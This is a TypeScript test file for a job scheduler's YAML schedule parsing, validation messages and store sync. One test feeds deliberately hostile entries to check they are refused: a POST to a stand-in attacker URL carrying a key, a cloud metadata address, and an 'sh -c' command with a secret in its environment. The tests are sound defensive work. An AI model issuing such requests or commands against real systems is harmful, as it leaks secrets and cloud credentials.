import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { ConfigError } from '../../src/errors.js';
import { defineJob } from '../../src/job/define-job.js';
import { withBuiltinJobs } from '../../src/jobs/builtin-jobs.js';
import { createJobRegistry } from '../../src/scheduler/schedule-definition.js';
import { parseScheduleFile, syncScheduleDefinitions, syncScheduleFile } from '../../src/scheduler/schedule-file.js';
import { createScheduleManager } from '../../src/scheduler/schedule-manager.js';
import { storeHarnesses, type OpenedStore } from './store-harness.js';

const questmaster = defineJob({ name: 'daily.questmaster', schema: z.object({ orgId: z.string() }), handler: () => null });
const cleanup = defineJob({ name: 'cleanup', schema: z.object({ days: z.number().int().default(30) }), handler: () => null });
const jobs = createJobRegistry(withBuiltinJobs([questmaster, cleanup], { http: { allow: ['hooks.example.org'] }, command: { allow: ['/usr/local/bin/backup'] } }));

const EXAMPLE = `schedules:
  - jobId: daily.questmaster
    schedule: "0 9 * * *"
    enabled: true
    timezone: "America/New_York"   # optional, default UTC
    description: "Daily quest unlocking"
    input: { orgId: "default-org" }
`;

async function configError(promise: Promise<unknown>): Promise<ConfigError> {
  try {
    await promise;
  } catch (error) {
    expect(error).toBeInstanceOf(ConfigError);
    return error as ConfigError;
  }
  throw new Error('expected a ConfigError');
}

describe('parseScheduleFile', () => {
  it('accepts the documented shape unchanged', async () => {
    const [schedule, ...rest] = await parseScheduleFile(EXAMPLE, 'scheduler.yaml', { jobs });
    expect(rest).toEqual([]);
    expect(schedule).toEqual({
      id: 'daily.questmaster',
      jobName: 'daily.questmaster',
      cron: '0 9 * * *',
      timezone: 'America/New_York',
      enabled: true,
      description: 'Daily quest unlocking',
      input: '{"orgId":"default-org"}',
      catchUp: 0,
      overlap: 'allow',
      source: 'file',
      jobOptions: null,
    });
  });

  it('accepts our own fields and the built-in http/command jobs', async () => {
    const text = `schedules:
  - id: cleanup.nightly
    jobId: cleanup
    schedule: "@daily"
    catchUp: 3
    overlap: skip
    queue: maintenance
    priority: 5
    maxAttempts: 1
    timeoutMs: 60000
  - id: ping.webhook
    jobId: http
    schedule: "*/10 * * * * *"
    input: { url: "http://hooks.example.org/hook", method: POST, body: { hello: 1 } }
  - id: backup
    jobId: command
    schedule: "30 2 * * SUN"
    input: { argv: ["/usr/local/bin/backup"] }
`;
    const schedules = await parseScheduleFile(text, 'scheduler.yaml', { jobs });
    expect(schedules.map((s) => [s.id, s.jobName, s.catchUp, s.overlap, s.jobOptions])).toEqual([
      ['cleanup.nightly', 'cleanup', 3, 'skip', '{"queue":"maintenance","priority":5,"maxAttempts":1,"timeoutMs":60000}'],
      ['ping.webhook', 'http', 0, 'allow', null],
      ['backup', 'command', 0, 'allow', null],
    ]);
  });

  describe('reports every bad entry with file, line and a typed cause', () => {
    const entry = (fields: string): string => `schedules:\n  - jobId: daily.questmaster\n    input: { orgId: "o" }\n${fields}`;
    const cases: [string, string, string, number, string][] = [
      ['minute out of range', entry('    schedule: "61 * * * *"\n'), 'INVALID_CRON', 4, 'minute field: 61 is out of range'],
      ['too few fields', entry('    schedule: "* * *"\n'), 'INVALID_CRON', 4, 'expected 5 fields'],
      ['zero step', entry('    schedule: "*/0 * * * *"\n'), 'INVALID_CRON', 4, 'step must be at least 1'],
      ['never fires', entry('    schedule: "0 0 31 2 *"\n'), 'INVALID_CRON', 4, 'never fires'],
      ['unknown time zone', entry('    schedule: "0 9 * * *"\n    timezone: America/New_Yrok\n'), 'INVALID_TIMEZONE', 5, 'America/New_Yrok'],
      ['unknown job', 'schedules:\n  - jobId: weekly.report\n    schedule: "@weekly"\n', 'UNKNOWN_JOB', 2, 'weekly.report'],
      ['input failing the schema', 'schedules:\n  - jobId: daily.questmaster\n    schedule: "@daily"\n    input:\n      orgId: 12\n', 'INVALID_PAYLOAD', 5, 'orgId'],
      ['bad built-in input', 'schedules:\n  - jobId: command\n    schedule: "@daily"\n    input: { argv: [] }\n', 'INVALID_PAYLOAD', 4, 'argv'],
      ['missing schedule', 'schedules:\n  - jobId: cleanup\n', 'INVALID_OPTION', 2, 'schedule'],
      [
        'duplicate ids',
        'schedules:\n  - jobId: cleanup\n    schedule: "@daily"\n  - jobId: cleanup\n    schedule: "@hourly"\n',
        'DUPLICATE_SCHEDULE',
        4,
        'already used by schedules[0] (line 2)',
      ],
    ];
    for (const [label, text, code, line, fragment] of cases) {
      it(label, async () => {
        const error = await configError(parseScheduleFile(text, '/etc/app/scheduler.yaml', { jobs }));
        expect(error.code).toBe('INVALID_CONFIG');
        expect(error.file).toBe('/etc/app/scheduler.yaml');
        expect(error.line).toBe(line);
        expect(error.message).toContain(`/etc/app/scheduler.yaml:${line}: `);
        expect(error.message).toContain(fragment);
        expect((error.cause as { code: string }).code).toBe(code);
      });
    }

    it('malformed YAML', async () => {
      const error = await configError(parseScheduleFile('schedules:\n  - jobId: cleanup\n    schedule: "@daily\n', 'bad.yaml', { jobs }));
      expect(error.file).toBe('bad.yaml');
      expect(error.line).toBeGreaterThanOrEqual(3);
      expect(error.message).toMatch(/^bad\.yaml:\d+: invalid YAML/);
    });

    it('an unquoted cron expression (YAML syntax) gets a hint', async () => {
      const error = await configError(parseScheduleFile('schedules:\n  - jobId: cleanup\n    schedule: */15 * * * *\n', 'x.yaml', { jobs }));
      expect(error.line).toBe(3);
      expect(error.message).toContain('quote cron expressions');
    });

    it('a file without a schedules list', async () => {
      const error = await configError(parseScheduleFile('schedule:\n  - jobId: cleanup\n', 'x.yaml', { jobs }));
      expect(error.message).toContain('no "schedules:" list');
    });

    it('several problems at once, all listed', async () => {
      const text = 'schedules:\n  - jobId: cleanup\n    schedule: "61 * * * *"\n  - jobId: nope\n    schedule: "@daily"\n';
      const error = await configError(parseScheduleFile(text, 'x.yaml', { jobs }));
      expect(error.line).toBe(3);
      expect(error.message).toContain('2 problems in 2 schedules');
      expect(error.issues.map((issue) => issue.path)).toEqual(['schedules[0].schedule', 'schedules[1].jobId']);
      expect(error.issues[1]!.message).toContain('line 4');
    });

    it('every problem of one entry, each at its own line, not only the first', async () => {
      const text = 'schedules:\n  - jobId: cleanup\n    schedule: "@daily"\n  - id: bad\n    jobId: nope\n    schedule: "61 * * * *"\n    timezone: Bad/Zone\n    priority: HIGH\n';
      const error = await configError(parseScheduleFile(text, 'x.yaml', { jobs }));
      expect(error.line).toBe(5);
      expect(error.message).toContain('4 problems in 1 schedule:');
      expect(error.issues.map((issue) => [issue.path, issue.message.match(/^line (\d+): /)?.[1], issue.message.match(/\((\w+)\)$/)?.[1]])).toEqual([
        ['schedules[1].jobId', '5', 'UNKNOWN_JOB'],
        ['schedules[1].schedule', '6', 'INVALID_CRON'],
        ['schedules[1].timezone', '7', 'INVALID_TIMEZONE'],
        ['schedules[1].priority', '8', 'INVALID_OPTION'],
      ]);
      expect(error.issues[3]!.message).toContain('got "HIGH"');
    });

    it('an unknown field at its own line, named once, with the field it resembles', async () => {
      const text = 'schedules:\n  - jobId: cleanup\n    schedule: "@daily"\n    timzone: UTC\n';
      const error = await configError(parseScheduleFile(text, 'x.yaml', { jobs }));
      expect(error.line).toBe(4);
      expect(error.message).toBe('x.yaml:4: schedules[0].timzone: unknown field "timzone" (did you mean "timezone"?) (INVALID_OPTION)');
      expect(error.issues).toEqual([{ path: 'schedules[0].timzone', message: `line 4: ${error.message.slice('x.yaml:4: '.length)}` }]);
    });

    it('a field of the wrong type does not hide the other fields\' problems', async () => {
      const text = 'schedules:\n  - jobId: cleanup\n    schedule: "@daily"\n    catchUp: -1\n    overlap: sometimes\n    timezone: Mars/Olympus\n';
      const error = await configError(parseScheduleFile(text, 'x.yaml', { jobs }));
      expect(error.issues.map((issue) => issue.path)).toEqual(['schedules[0].catchUp', 'schedules[0].overlap', 'schedules[0].timezone']);
    });

    it('an id used twice: once, at the second id\'s line, pointing at the first', async () => {
      const text = 'schedules:\n  - id: same\n    jobId: cleanup\n    schedule: "@daily"\n  - jobId: cleanup\n    id: same\n    schedule: "61 * * * *"\n';
      const error = await configError(parseScheduleFile(text, 'x.yaml', { jobs }));
      expect(error.issues.map((issue) => issue.message)).toEqual([
        'line 6: schedules[1].id: schedule id "same" is already used by schedules[0] (line 2); give one of them another "id" (DUPLICATE_SCHEDULE)',
        'line 7: schedules[1].schedule: invalid cron expression "61 * * * *": minute field: 61 is out of range 0–59 (INVALID_CRON)',
      ]);
    });

    it('a URL outside builtins.http.allow, or a program outside builtins.command.allow, at its line', async () => {
      const text = [
        'schedules:',
        '  - id: hook',
        '    jobId: http',
        '    schedule: "@daily"',
        '    input:',
        '      method: POST',
        '      url: "http://evil.example/x?key=secret"',
        '  - id: metadata',
        '    jobId: http',
        '    schedule: "@daily"',
        '    input: { url: "http://169.254.169.254/latest/meta-data/" }',
        '  - id: shell',
        '    jobId: command',
        '    schedule: "@daily"',
        '    input:',
        '      argv: [sh, -c, "id"]',
        '      env: { SECRET: x }',
        '',
      ].join('\n');
      const error = await configError(parseScheduleFile(text, 'x.yaml', { jobs }));
      expect(error.issues.map((issue) => issue.message)).toEqual([
        'line 7: schedules[0].input.url: refused POST http://evil.example/x?…: evil.example is not in builtins.http.allow (allowed: hooks.example.org); add the host or a URL prefix there to allow it (INVALID_PAYLOAD)',
        'line 11: schedules[1].input.url: refused GET http://169.254.169.254/latest/meta-data/: 169.254.169.254 is a link-local / cloud metadata address, refused unless builtins.http.allow names it itself (add "169.254.169.254" there to allow it) (INVALID_PAYLOAD)',
        'line 16: schedules[2].input.argv: refused to run "sh": not in builtins.command.allow (allowed: /usr/local/bin/backup); add it there (an absolute path, or a name looked up in PATH) to allow it (INVALID_PAYLOAD)',
        'line 17: schedules[2].input.env: refused to set "SECRET" in the program\'s environment: not in builtins.command.inputEnv (none allowed); add the name there to allow it (INVALID_PAYLOAD)',
      ]);
      // Allowed ones pass: a URL under an allowed host, the allowed program.
      const allowed = 'schedules:\n  - jobId: http\n    schedule: "@daily"\n    input: { url: "https://hooks.example.org/any/path" }\n  - jobId: command\n    schedule: "@daily"\n    input: { argv: [/usr/local/bin/backup, --full] }\n';
      expect((await parseScheduleFile(allowed, 'x.yaml', { jobs })).map((schedule) => schedule.id)).toEqual(['http', 'command']);
    });
  });
});

for (const harness of storeHarnesses) {
  describe(`schedule file sync on ${harness.label}`, () => {
    let opened: OpenedStore;
    let dir: string;
    beforeEach(async () => {
      opened = await harness.open(Date.parse('2026-01-05T08:00:00Z'));
      dir = fs.mkdtempSync(path.join(os.tmpdir(), 'nightshift-schedule-file-'));
    });
    afterEach(async () => {
      await opened.cleanup();
      fs.rmSync(dir, { recursive: true, force: true });
    });

    it('creates, updates and (when asked) removes file schedules idempotently, keeping api schedules apart', async () => {
      const file = path.join(dir, 'scheduler.yaml');
      const manager = createScheduleManager({ store: opened.store, jobs });
      await manager.create({ id: 'from-api', jobId: 'cleanup', schedule: '@hourly' });

      fs.writeFileSync(file, `${EXAMPLE}  - id: cleanup.nightly\n    jobId: cleanup\n    schedule: "0 3 * * *"\n`);
      expect(await syncScheduleFile({ store: opened.store, path: file, jobs })).toEqual({ created: ['daily.questmaster', 'cleanup.nightly'], updated: [], deleted: [], unchanged: [], undeclared: [] });
      const first = await manager.get('daily.questmaster');
      expect(first).toMatchObject({ source: 'file', nextRunAt: new Date('2026-01-05T14:00:00Z') });
      expect(await syncScheduleFile({ store: opened.store, path: file, jobs })).toEqual({ created: [], updated: [], deleted: [], unchanged: ['daily.questmaster', 'cleanup.nightly'], undeclared: [] });

      // An entry gone from the file may be another file's schedule: kept and reported, unless asked.
      fs.writeFileSync(file, EXAMPLE.replace('"0 9 * * *"', '"0 10 * * *"'));
      expect(await syncScheduleFile({ store: opened.store, path: file, jobs })).toEqual({ created: [], updated: ['daily.questmaster'], deleted: [], unchanged: [], undeclared: ['cleanup.nightly'] });
      expect(await manager.get('cleanup.nightly')).not.toBeNull();
      expect(await syncScheduleFile({ store: opened.store, path: file, jobs, deleteUndeclared: true })).toEqual({
        created: [],
        updated: [],
        deleted: ['cleanup.nightly'],
        unchanged: ['daily.questmaster'],
        undeclared: [],
      });
      expect((await manager.get('daily.questmaster'))?.nextRunAt).toEqual(new Date('2026-01-05T15:00:00Z'));
      expect((await manager.list()).map((s) => [s.id, s.source])).toEqual([
        ['daily.questmaster', 'file'],
        ['from-api', 'api'],
      ]);

      // A file entry may not take the id of an api schedule; nothing is written.
      fs.writeFileSync(file, `${EXAMPLE}  - id: from-api\n    jobId: cleanup\n    schedule: "@daily"\n`);
      const error = await configError(syncScheduleFile({ store: opened.store, path: file, jobs }));
      expect((error.cause as { code: string }).code).toBe('DUPLICATE_SCHEDULE');
      // At the entry's line, saying who made the other one: the CLI cannot create schedules.
      expect(error.line).toBe(8);
      expect(error.message).toBe(
        `${file}:8: schedules[1].id: schedule id "from-api" is already used by a schedule created at run time (source "api": POST /api/schedules or the schedule manager in code), which a sync never changes; give this entry another id, or delete that schedule first (DELETE /api/schedules/from-api) (DUPLICATE_SCHEDULE)`,
      );
      expect((await manager.get('from-api'))?.cron).toBe('@hourly');

      // An invalid file changes nothing.
      fs.writeFileSync(file, 'schedules: []\n  bad: [\n');
      await configError(syncScheduleFile({ store: opened.store, path: file, jobs }));
      expect(await manager.get('daily.questmaster')).not.toBeNull();
      fs.writeFileSync(file, 'schedules: []\n');
      expect((await syncScheduleFile({ store: opened.store, path: file, jobs })).undeclared).toEqual(['daily.questmaster']);
      expect((await syncScheduleFile({ store: opened.store, path: file, jobs, deleteUndeclared: true })).deleted).toEqual(['daily.questmaster']);
    });

    it('syncs schedules declared in code as source "code"', async () => {
      const declared = [{ jobId: 'cleanup', schedule: '0 4 * * *', input: { days: 7 } }];
      expect((await syncScheduleDefinitions({ store: opened.store, schedules: declared, jobs })).created).toEqual(['cleanup']);
      expect((await opened.store.scheduleGet({ id: 'cleanup' }))?.source).toBe('code');
      expect((await syncScheduleDefinitions({ store: opened.store, schedules: declared, jobs })).unchanged).toEqual(['cleanup']);
      const error = await configError(syncScheduleDefinitions({ store: opened.store, schedules: [{ jobId: 'cleanup', schedule: '0 0 30 2 *' }], jobs }));
      expect((error.cause as { code: string }).code).toBe('INVALID_CRON');
    });
  });
}
